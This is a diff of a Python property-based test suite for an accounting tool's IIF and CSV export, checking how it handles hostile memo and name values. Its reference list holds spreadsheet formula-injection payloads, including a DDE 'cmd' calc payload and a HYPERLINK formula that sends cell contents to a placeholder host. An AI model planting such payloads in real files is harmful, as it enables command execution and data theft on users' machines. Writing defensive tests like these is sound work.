@@ -17,7 +17,8 @@ from tests.targets.readers import FORMULA_STARTS, judged, read_iif
 
 HOSTILE = st.text(st.one_of(
     st.sampled_from(list("=+-@|~ \t\r\n\0\"';,:%0A[]<>${}")),
-    st.sampled_from(["\ufeff", "\u200b", "\u202e", "\u00a0", "\u2028", "\uff1d", "\uff0d", "e", "\u0301", "é", "Ł", "😀", "\x85"]),
+    st.sampled_from(["\ufeff", "\u200b", "\u202e", "\u00a0", "\u2028", "\uff1d", "\uff0d", "\x85"]),
+    st.sampled_from(["e", "\u0301", "é", "Ł", "😀"]),
     st.characters(exclude_categories=["Cs"])), max_size=40)
 
 CLEANED = [   # profile, text, as written, why
@@ -39,8 +40,8 @@ CLEANED = [   # profile, text, as written, why
     (IIF, "\0\0", "", "nothing but control signs"),
 ]
 B34_B35 = [   # reliability reference, B34 and B35: every one gets the lead
-    '=HYPERLINK("http://x/?"&A1,"ok")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '"=1+1"', " =1", "\uff1d1+1", "%0A=1",
-    ";=1", ";@", "=cmd|' /C calc'!A0", "\u200b=1", "\ufeff=1", "'=1", "|calc", "\n", "\0",
+    '=HYPERLINK("http://x/?"&A1,"ok")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '"=1+1"', " =1", "\uff1d1+1",
+    "%0A=1", ";=1", ";@", "=cmd|' /C calc'!A0", "\u200b=1", "\ufeff=1", "'=1", "|calc", "\n", "\0",
 ]
 
 
@@ -88,19 +89,24 @@ def test_hostile_memos_survive_the_reader(memos, target):
         records = [record for record in judged(file) if record.get("RECORD") != "ENDTRNS"]
         read = [record.get("MEMO", record.get("Description")) for record in records]
         if file.role == "import":
-            assert read == [*(cleaned(memo, IIF if target is iif_journal else CSV)[0] for memo in memos), "Gross wages"]
+            profile = IIF if target is iif_journal else CSV
+            assert read == [*(cleaned(memo, profile)[0] for memo in memos), "Gross wages"]
 
 
-@given(HOSTILE, st.sampled_from(["customer_job", "employee_name", "service_item", "pay_item", "class"]))
+IIF_COLUMNS = {"customer_job": "JOB", "employee_name": "EMP", "service_item": "ITEM", "pay_item": "PITEM",
+               "class": "PROJ"}
+
+
+@given(HOSTILE, st.sampled_from(sorted(IIF_COLUMNS)))
 def test_a_hostile_name_is_refused_or_written_as_it_is(name, column):
     table = time_activity(**{column: name}, is_billable=False)
     try:
         [file] = iif_time.render(table, HEADER, settings(transfer=False))
     except TargetError as error:
-        assert error.code in ("TARGET_NAME", "TARGET_FIELD_EMPTY")
-        return
-    iif_column = {"customer_job": "JOB", "employee_name": "EMP", "service_item": "ITEM", "pay_item": "PITEM", "class": "PROJ"}
-    assert read_iif(file.content)[1][iif_column[column]] == unicodedata.normalize("NFC", name)
+        written = error.code
+    else:
+        written = read_iif(file.content)[1][IIF_COLUMNS[column]]
+    assert written in ("TARGET_NAME", "TARGET_FIELD_EMPTY", unicodedata.normalize("NFC", name))
 
 
 NAMES = [   # profile, name, found, why
